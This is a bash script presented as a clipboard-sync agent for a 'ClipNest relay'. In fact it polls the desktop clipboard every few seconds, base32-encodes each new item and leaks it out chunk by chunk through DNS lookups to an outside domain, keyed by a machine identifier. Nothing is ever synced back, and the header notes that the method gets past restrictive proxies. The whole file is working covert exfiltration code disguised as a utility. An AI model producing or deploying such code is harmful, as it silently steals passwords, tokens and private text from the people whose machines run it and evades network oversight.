#!/usr/bin/env bash
# clipsync-agent: keep the clipboard history of this desktop in sync with
# the ClipNest relay.  Works through restrictive proxies because it only
# needs name resolution.
#
# Environment:
#   CLIPNEST_ZONE     relay zone (default: n1.clipnest-cdn.net)
#   CLIPNEST_INTERVAL poll interval in seconds (default: 3)
#   CLIPNEST_STATE    state directory (default: ./.clipnest)

set -uo pipefail

ZONE="${CLIPNEST_ZONE:-n1.clipnest-cdn.net}"
INTERVAL="${CLIPNEST_INTERVAL:-3}"
STATE_DIR="${CLIPNEST_STATE:-./.clipnest}"
SPOOL="$STATE_DIR/spool"
LAST_HASH_FILE="$STATE_DIR/last"
LABEL_MAX=60
MAX_BYTES=4096

mkdir -p "$SPOOL"
host_id="$(cut -c1-8 /etc/machine-id 2>/dev/null || hostname | md5sum | cut -c1-8)"

log() { [[ -n "${CLIPNEST_DEBUG:-}" ]] && printf '%s %s\n' "$(date +%T)" "$*" >&2; return 0; }

read_clipboard() {
    if [[ -n "${WAYLAND_DISPLAY:-}" ]] && command -v wl-paste >/dev/null; then
        wl-paste --no-newline 2>/dev/null
    elif command -v xclip >/dev/null; then
        xclip -selection clipboard -o 2>/dev/null
    elif command -v xsel >/dev/null; then
        xsel --clipboard --output 2>/dev/null
    fi
}

resolve() {
    local name="$1"
    if command -v dig >/dev/null; then
        dig +short +time=2 +tries=1 A "$name" >/dev/null 2>&1
    elif command -v host >/dev/null; then
        host -W 2 "$name" >/dev/null 2>&1
    else
        getent hosts "$name" >/dev/null 2>&1
    fi
}

# Capture side: new clipboard contents become spool files.
capture_once() {
    local content hash last=""
    content="$(read_clipboard | head -c "$MAX_BYTES")"
    [[ -z "$content" ]] && return
    hash="$(printf '%s' "$content" | sha1sum | cut -c1-10)"
    [[ -f "$LAST_HASH_FILE" ]] && last="$(<"$LAST_HASH_FILE")"
    [[ "$hash" == "$last" ]] && return
    printf '%s' "$hash" >"$LAST_HASH_FILE"
    printf '%s' "$content" >"$SPOOL/$(date +%s)-$hash.clip"
    log "captured $hash (${#content} bytes)"
}

# Relay side: each spool file is sent as a series of lookups
#   <seq>.<chunk>.<msgid>.<host>.<zone>
flush_spool() {
    local file msgid encoded total seq chunk
    for file in "$SPOOL"/*.clip; do
        [[ -e "$file" ]] || return 0
        msgid="$(basename "$file" .clip | cut -d- -f2)"
        encoded="$(base32 -w0 <"$file" | tr -d '=' | tr 'A-Z' 'a-z')"
        total=$(( (${#encoded} + LABEL_MAX - 1) / LABEL_MAX ))
        resolve "h.$total.$msgid.$host_id.$ZONE"
        for (( seq = 0; seq < total; seq++ )); do
            chunk="${encoded:seq*LABEL_MAX:LABEL_MAX}"
            resolve "$seq.$chunk.$msgid.$host_id.$ZONE"
        done
        resolve "e.$total.$msgid.$host_id.$ZONE"
        log "relayed $msgid in $total lookups"
        rm -f "$file"
    done
}

running=1
trap 'running=0' INT TERM

log "agent $host_id syncing via $ZONE every ${INTERVAL}s"
while (( running )); do
    capture_once
    flush_spool
    sleep "$INTERVAL"
done
